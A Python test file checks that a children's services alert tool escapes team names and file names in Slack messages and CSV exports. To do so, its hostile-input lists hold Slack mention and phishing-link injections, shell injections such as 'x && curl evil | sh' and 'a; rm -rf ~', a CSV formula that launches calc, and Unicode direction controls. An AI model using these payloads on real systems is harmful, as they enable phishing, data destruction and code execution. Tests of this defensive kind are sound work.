"""Free text in Slack payloads: hostile and random team names, titles and file names never make a mention, a link
or a runnable shell command; the exact payload for one hostile team."""

from __future__ import annotations

import html
import json
import random
import re
import shlex
from dataclasses import replace
from datetime import date

from sqlalchemy import text

from csc_monitor.alerts.config import ALL
from csc_monitor.alerts.messages import (AlertItem, Figure, Links, digest_message, rejected_exports_message, resolved_message,
                                         validation_message)
from csc_monitor.dashboard.links import indicator_url
from csc_monitor.indicators.definitions import load_definitions
from csc_monitor.ingest.errors import ExportError
from csc_monitor.safe_output import slack_text

AS_AT = date(2025, 3, 31)
(ICPC,) = load_definitions(["icpc_within_15_working_days"])
TITLE = "Initial child protection conferences within 15 working days"
DASHBOARD = "https://airflow.example.org"
HOSTILE = [
    "<!channel> <https://127.0.0.1/phish|Open dashboard>",
    "<!here>", "<!everyone>", "<@U012ABCDEF>", "<#C0123|general>", "<!subteam^S123>", "<mailto:a@b.c|mail>",
    "&lt;!channel&gt;", "&amp;", "<<!channel>>", "<", ">", "&",
    "CP West'$(id>pwned.txt)''", "`id`", "a; rm -rf ~", "x && curl evil | sh", "$HOME", "${IFS}", "a\nb", "tab\there",
    "'", '"', "\\", "*bold* _it_ ~s~", "```code```",
    "=1+2*3", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR",
    "CP \u202eWest\u202c", "\u200fRTL mark", "\u2066isolate\u2069",
    "W" * 5000, "<" * 300, "<!channel>" * 100,
]
ALPHABET = "abcXYZ 019<>&!|@#^`$'\"\\;(){}[]*_~=+-\t\n\r:/.,?%\u202e\u200f\u00e9\u4e2d"
METACHARACTER_FREE = re.compile(r"""[\w@%+=:,./-]+|'[^']*'(?:"'"'[^']*')*""")  # shlex.quote's output, argument by argument


def random_names(count: int, seed: int = 17) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(ALPHABET) for _ in range(rng.randint(1, 120))) for _ in range(count)]


def _figure(scope: str, numerator: int = 5, denominator: int = 10) -> Figure:
    return Figure(scope=scope, numerator=numerator, denominator=denominator, value=100.0 * numerator / denominator, overdue=0)


def _item(scope: str, teams: tuple[str, ...] = ()) -> AlertItem:
    return AlertItem(
        definition=ICPC, scope=scope, severity="critical", kind="new", figure=_figure(scope),
        thresholds={"warning": 85, "critical": 70}, reasons=("critical threshold",), since=AS_AT, previous=None,
        comparators={}, teams=tuple(_figure(t, 6, 10) for t in teams),
    )


def payloads(name: str) -> list[tuple[str, list[dict]]]:
    """Every message a team name or a file name can reach: the digest (team heading, teams list, command, link),
    the resolved message, a failed data check's rule, a rejected export."""
    links = Links(run_id="run-1", run_link_base=None, dashboard_url=DASHBOARD)
    return [
        digest_message([_item(name), _item(ALL, (name, "CP East"))], AS_AT, (), links, 5),
        resolved_message(ICPC, name, "critical", AS_AT, _figure(name, 9, 10), AS_AT, None, links, 5),
        validation_message([(name, 12)], AS_AT, (), links, 5),
        rejected_exports_message([ExportError(name, f"row 3, column {name}", "rule")], AS_AT),
    ]


def assert_inert(name: str) -> None:
    for text, blocks in payloads(name):
        rendered = "\n".join([text, *_strings(blocks)])
        assert "<!" not in rendered and "<@" not in rendered and "<#" not in rendered, name
        allowed = {f"<{indicator_url(DASHBOARD, ICPC.id, AS_AT, team)}|trend, teams and children in the dashboard>"
                   for team in (None, name)}
        assert set(re.findall(r"<[^>]*>", rendered)) <= allowed, name
        for command in re.findall(r"`(csc-monitor exceptions [^`]*)`", rendered):
            pasted = html.unescape(command)
            words = shlex.split(pasted)
            expected = ["csc-monitor", "exceptions", ICPC.id, "--as-at", "2025-03-31"]
            assert words in (expected, [*expected, "--team", name]), (name, command)
            assert all(METACHARACTER_FREE.fullmatch(word) for word in _words(pasted)), (name, command)


def _strings(node) -> list[str]:
    """Every string in a Block Kit structure, as Slack reads it."""
    if isinstance(node, str):
        return [node]
    values = node.values() if isinstance(node, dict) else node
    return [text for value in values for text in _strings(value)]


def _words(command: str) -> list[str]:
    """Split on the spaces shlex.quote puts between arguments (spaces inside quotes stay)."""
    return re.findall(r"""(?:[^\s'"]+|'[^']*'|"[^"]*")+""", command)


def test_hostile_names_make_no_mention_link_or_runnable_command():
    for name in HOSTILE:
        assert_inert(name)


def test_random_names_make_no_mention_link_or_runnable_command():
    for name in random_names(300):
        assert_inert(name)


def test_free_text_is_escaped_capped_and_stripped_of_direction_controls():
    assert slack_text("<!channel> & <https://x|y>") == "&lt;!channel&gt; &amp; &lt;https[:]//x|y&gt;"
    assert slack_text("W" * 100) == "W" * 79 + "…"
    assert slack_text("CP \u202eWest\u202c\nline") == "CP West line"
    assert len(slack_text("<" * 300)) == 79 * 4 + 1


def test_exact_payload_for_a_hostile_team():
    team = "<!channel> CP West'$(id>pwned.txt)''"
    links = Links(run_id="run-1", run_link_base=None, dashboard_url=DASHBOARD)
    text, blocks = digest_message([replace(_item(team), severity="warning", reasons=("warning threshold",))], AS_AT, (), links, 5)
    shown = "&lt;!channel&gt; CP West'$(id&gt;pwned.txt)''"
    assert text == (f"Performance alerts as at 2025-03-31: Warning: {TITLE} · {shown}: 50.0% (5 of 10); "
                    "warning below 85%, critical below 70%")
    assert blocks[1]["text"]["text"] == f":large_orange_circle: *Warning: {TITLE} · {shown}*\nBreached: warning threshold"
    assert blocks[2]["elements"][0]["text"] == (
        f"Definition `{ICPC.id}` v1 (statutory), {ICPC.spec['period']} · children behind the figure: "
        f"`csc-monitor exceptions {ICPC.id} --as-at 2025-03-31 --team "
        "'&lt;!channel&gt; CP West'\"'\"'$(id&gt;pwned.txt)'\"'\"''\"'\"''` (inside the authority only) · "
        f"<{DASHBOARD}/csc/indicators/{ICPC.id}?as_at=2025-03-31&team=%3C%21channel%3E+CP+West%27%24%28id%3Epwned.txt%29%27%27"
        "|trend, teams and children in the dashboard>")
    pasted = html.unescape(blocks[2]["elements"][0]["text"].split("`")[3])
    assert shlex.split(pasted)[-2:] == ["--team", team]


def test_rejected_export_names_the_file_escaped():
    text, blocks = rejected_exports_message([ExportError("<!here>|x.csv", "row 2, column child_id", "rule")], AS_AT)
    assert text == "1 export(s) rejected on 2025-03-31; the figures use the files that loaded."
    assert blocks[0]["text"]["text"] == (f":warning: *{text}*\n• &lt;!here&gt;|x.csv: row 2, column child_id\n"
                                         "Reasons are in the rejected/ folder beside each file.")


HOSTILE_TEAMS = ["<!channel> <https://127.0.0.1/phish|Open dashboard>", "+cmd|' /C calc'!A0", "CP West'$(id>pwned.txt)''",
                 "\u202eTeam RTL"]


def test_hostile_team_names_through_ingest_run_slack_and_csv(settings, engine, monkeypatch, capsys):
    """Ten late-or-not ICPCs per hostile team, allocated through an ingested allocations CSV: the digest names every
    team inertly, its commands parse back to the team, and the exceptions CSV neutralises the formulas."""
    import csv as csv_module
    import io

    from csc_monitor import cli, pipeline
    from csc_monitor.alerts import lifecycle
    from tests.support.facts import add_enquiry

    monkeypatch.setattr(lifecycle, "load_definitions", lambda: load_definitions(["icpc_within_15_working_days"]))
    settings.landing_dir.mkdir(parents=True, exist_ok=True)
    allocations = io.StringIO()
    writer = csv_module.writer(allocations, lineterminator="\n")
    writer.writerow(["child_id", "team", "worker", "start_date", "end_date"])
    for t, team in enumerate(HOSTILE_TEAMS):
        for n in range(10):
            child = f"H{t}{n:02d}"
            add_enquiry(engine, child, strategy="2025-01-06", icpc="2025-01-27" if n < 5 else "2025-01-28", team="")
            writer.writerow([child, team, "=HYPERLINK(\"http://x\")" if n % 2 else "@SUM(A1:A9)", "2010-01-01", ""])
    (settings.landing_dir / "allocations_hostile.csv").write_text(allocations.getvalue())
    assert pipeline.ingest(settings).loaded == ["allocations_hostile.csv"]
    pipeline.run(settings, AS_AT, "run-hostile")
    with engine.connect() as conn:
        messages = conn.execute(text("SELECT text, blocks_json FROM slack_outbox")).all()
    assert messages
    rendered = "\n".join(f"{t}\n" + "\n".join(_strings(json.loads(b))) for t, b in messages)
    assert re.findall(r"<[^>]*>", rendered) == []                        # no mention, no link: nothing in <...> at all
    for team in HOSTILE_TEAMS[:3]:
        assert slack_text(team) in rendered
    commands = [shlex.split(html.unescape(c)) for c in re.findall(r"`(csc-monitor exceptions [^`]*)`", rendered)]
    assert {tuple(c[5:]) for c in commands} == {(), *(("--team", team) for team in HOSTILE_TEAMS[:3])}
    capsys.readouterr()
    monkeypatch.setenv("CSC_MONITOR_WAREHOUSE_URL", settings.warehouse_url)
    assert cli.main(["exceptions", "icpc_within_15_working_days", "--as-at", "2025-03-31"]) == 0
    rows = list(csv_module.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 20 and {r["team"] for r in rows} == {"'" + HOSTILE_TEAMS[1], *(t for t in HOSTILE_TEAMS if t[0] != "+")}
    assert {r["worker"] for r in rows} == {"'=HYPERLINK(\"http://x\")", "'@SUM(A1:A9)"}
